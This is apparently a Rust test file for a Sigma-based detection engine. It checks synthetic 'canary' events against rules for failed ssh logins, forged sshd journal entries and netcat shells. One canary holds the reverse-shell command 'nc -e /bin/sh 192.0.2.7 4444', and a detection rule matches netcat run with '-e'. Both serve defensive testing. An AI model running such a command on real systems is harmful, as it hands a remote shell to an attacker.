use bartizan_core::document::{self, Document};

use super::*;

const SIGMA: &str = "\
title: Failed login
id: failed
name: failed
logsource: {product: linux, service: sshd}
level: informational
detection: {s: {action: login, outcome: failure}, condition: s}
---
title: Many failed logins
id: many
level: high
correlation:
  type: event_count
  rules: [failed]
  group-by: [source_ip]
  timespan: 1m
  condition: {gte: 5}
---
title: A shell on the net
level: critical
logsource: {product: linux, category: process_creation}
detection: {s: {Image|endswith: /nc, CommandLine|contains: ' -e '}, condition: s}
---
title: In sshd's name
id: forged
level: medium
logsource: {product: linux, service: sshd}
detection: {known: {_COMM|exists: true}, own: {_COMM|startswith: sshd}, condition: known and not own}
";

const FAILED: &str = "sshd[9]: Failed password for root from 192.0.2.7 port 4022 ssh2";

fn document(canaries: &serde_json::Value) -> Document {
    let written = serde_json::json!({
        "kind": "Detection", "name": "d", "spec": {"sigma": SIGMA, "canaries": canaries},
    });
    document::parse("d.yaml", &written.to_string()).unwrap().remove(0)
}

fn read(canaries: &serde_json::Value) -> Result<Rules, String> {
    let mut rules = Rules::default();
    rules.read_document(&document(canaries)).map_err(|fault| fault.to_string())?;
    Ok(rules)
}

fn matches(canary: &serde_json::Value, form: Form) -> bool {
    let rules = read(&serde_json::json!([canary])).unwrap();
    rules.canaries()[0].matches(&rules, form).unwrap()
}

#[test]
fn a_line_and_a_start_take_the_way_of_real_ones_to_the_match() {
    let line = serde_json::json!({"rule": "many", "lines": [FAILED], "times": 5});
    assert!(matches(&line, Form::LogFile) && matches(&line, Form::Journal));
    let start = serde_json::json!({"rule": "A shell on the net", "start":
        {"image": "/usr/bin/nc", "command": "nc -e /bin/sh 192.0.2.7 4444"}});
    assert!(matches(&start, Form::LogFile), "where lines come from is nothing to it");
}

#[test]
fn a_canary_that_its_rule_does_not_match_says_so() {
    let few = serde_json::json!({"rule": "many", "lines": [FAILED], "times": 4});
    let other = serde_json::json!({"rule": "many", "lines": ["sshd[9]: Connection closed"], "times": 5});
    assert!(!matches(&few, Form::Journal) && !matches(&other, Form::Journal));
}

#[test]
fn canaries_of_one_document_do_not_count_with_each_other() {
    let few = serde_json::json!({"rule": "many", "lines": [FAILED], "times": 3});
    let rules = read(&serde_json::json!([few, few])).unwrap();
    assert!(rules.canaries().iter().all(|canary| !canary.matches(&rules, Form::LogFile).unwrap()));
}

#[test]
fn what_only_the_journal_tells_is_told_in_its_form_alone() {
    let line = "sshd[9]: Accepted publickey for root from 192.0.2.7 port 4022 ssh2";
    let canary =
        serde_json::json!({"rule": "forged", "lines": [line], "sender": {"command": "logger", "uid": 1000}});
    assert!(matches(&canary, Form::Journal) && !matches(&canary, Form::LogFile));
    let rules = read(&serde_json::json!([canary])).unwrap();
    assert_eq!(rules.canaries()[0].need(), Need::Journal);
}

#[test]
fn every_event_bears_the_mark() {
    let rules = read(&serde_json::json!([
        {"rule": "many", "lines": [FAILED]},
        {"rule": "A shell on the net", "start": {"image": "/usr/bin/nc", "command": "nc"}},
    ]));
    let rules = rules.unwrap();
    let marks: Vec<String> = rules
        .canaries()
        .iter()
        .flat_map(|canary| canary.events(Form::Journal))
        .map(|event| {
            let mark = event.fields.get("host").or_else(|| event.fields.get("ProcessId"));
            mark.and_then(serde_json::Value::as_str).unwrap_or_default().to_owned()
        })
        .collect();
    assert_eq!(marks, [HOST, "0"]);
}

#[test]
fn a_broken_canary_is_a_fault_that_names_its_key() {
    let long = "x".repeat(TEXT_BYTES_LIMIT);
    let table = [
        (serde_json::json!({"rule": "none", "lines": [FAILED]}), "canaries[0].rule`: no rule"),
        (serde_json::json!({"rule": "many"}), "canaries[0]`: takes either"),
        (serde_json::json!({"rule": "many", "lines": []}), "canaries[0].lines`: is empty"),
        (serde_json::json!({"rule": "many", "lines": [FAILED, "what"]}), "canaries[0].lines[1]`: is no line"),
        (
            serde_json::json!({"rule": "many", "lines": [format!("sshd: a\nb")]}),
            "canaries[0].lines[0]`: holds",
        ),
        (
            serde_json::json!({"rule": "many", "lines": [format!("sshd: {long}")]}),
            "canaries[0].lines[0]`: is empty",
        ),
        (
            serde_json::json!({"rule": "many", "lines": [FAILED], "times": 0}),
            "canaries[0].times`: comes to 0",
        ),
        (
            serde_json::json!({"rule": "many", "lines": [FAILED, FAILED], "times": 501}),
            "canaries[0].times`: comes to 1002",
        ),
        (
            serde_json::json!({"rule": "many", "lines": [FAILED], "time": 5}),
            "canaries[0].time`: unknown field",
        ),
        (
            serde_json::json!({"rule": "many", "start": {"image": "", "command": "x"}}),
            "canaries[0].start.image`: is empty",
        ),
        (
            serde_json::json!({"rule": "many", "sender": {}, "start": {"image": "/x", "command": "x"}}),
            "canaries[0].sender`: goes with",
        ),
    ];
    for (canary, expected) in table {
        let fault = read(&serde_json::json!([canary])).unwrap_err();
        assert!(fault.contains(&format!("`spec.{expected}")), "{fault}\nexpected {expected}");
    }
    let canary = serde_json::json!({"rule": "many", "lines": [FAILED]});
    let many = serde_json::Value::Array(vec![canary; CANARIES_LIMIT + 1]);
    assert!(read(&many).unwrap_err().contains("`spec.canaries`: has 101 canaries; the limit is 100"));
}

#[test]
fn a_rule_of_another_document_can_not_be_named() {
    let mut rules = read(&serde_json::json!([])).unwrap();
    let other = "kind: Detection\nname: e\nspec:\n  sigma: 'title: t\n\n    level: low\n\n    logsource: {product: linux}\n\n    detection: {s: {a: b}, condition: s}'\n  canaries: [{rule: many, lines: ['sshd: x']}]\n";
    let other = document::parse("e.yaml", other).unwrap().remove(0);
    assert!(rules.read_document(&other).unwrap_err().to_string().contains("has the id or title `many`"));
}

#[test]
fn subjects_are_what_is_told_each_with_the_sources_it_looks_at() {
    let rules = read(&serde_json::json!([])).unwrap();
    let subjects: Vec<String> = rules
        .subjects()
        .iter()
        .map(|subject| {
            let sources: Vec<String> = subject.sources.iter().map(ToString::to_string).collect();
            format!("{} {} {}", subject.id, subject.severity, sources.join(" "))
        })
        .collect();
    assert_eq!(
        subjects,
        [
            "A shell on the net critical linux/process_creation",
            "forged medium linux/sshd",
            "many high linux/sshd",
        ]
    );
}
